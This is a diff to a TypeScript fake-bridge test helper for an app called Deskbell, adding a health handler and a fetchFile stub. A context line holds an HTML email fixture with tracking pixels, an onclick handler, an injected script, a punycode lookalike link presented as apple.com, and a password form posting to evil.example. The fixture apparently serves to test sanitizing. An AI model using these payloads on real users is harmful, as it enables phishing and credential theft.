@@ -6,6 +6,7 @@ import type { EventMessage } from '../../src/rpc/connect.ts'
 import type { MethodInput, MethodName, MethodOutput } from '../../src/rpc/contract.ts'
 import { DeskbellError, type ErrorBody, notFound, toErrorBody } from '../../src/rpc/errors.ts'
 import { makeWorld, type Scenario, timelineOf, type World } from './window-data.ts'
+import { healthAnswers } from './window-health.ts'
 import { importAnswers } from './window-imports.ts'
 
 type Answers = { readonly [M in MethodName]?: (input: MethodInput<M>) => MethodOutput<M> | Promise<MethodOutput<M>> }
@@ -246,6 +247,7 @@ export function fakeBridge(options: FakeOptions): DeskbellBridge {
       html: '<html><head><style>.x{background:url(https://tracker.example/bg.png)} h2{color:#0a6b4d}</style></head><body><h2>Quote for the kitchen</h2><p onclick="alert(1)">Thanks! Could you also include the <b>worktop</b>?</p><img src="https://tracker.example/pixel.gif" width="1" height="1"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" width="60" height="40"><p><a href="https://xn--pple-43d.com/login">https://apple.com</a></p><script>document.title="hacked"</script><form action="https://evil.example"><input name="pw"></form></body></html>',
     }),
     'people.attachment': () => ({ name: 'voicemail.wav', contentType: 'audio/wav', bytes: tone() }),
+    'people.fetchFile': () => ({}),
     'people.update': ({ personId, ...rest }) => {
       const card = world.cards.get(personId)
       if (card) world.cards.set(personId, { ...card, ...(rest as object) })
@@ -487,6 +489,7 @@ export function fakeBridge(options: FakeOptions): DeskbellBridge {
       return {}
     },
     'channels.retryNow': () => ({}),
+    ...healthAnswers(world, changed),
     ...importAnswers(world, emit, (person) => addSomebody(person), options.scenario),
     'store.backup': () => ({ bytes: 1_234_567, people: 8, interactions: 90, at: Date.now() }),
     'store.inspectBackup': () => ({ people: 8, interactions: 90, version: 10, at: Date.now() - 86_400_000 }),
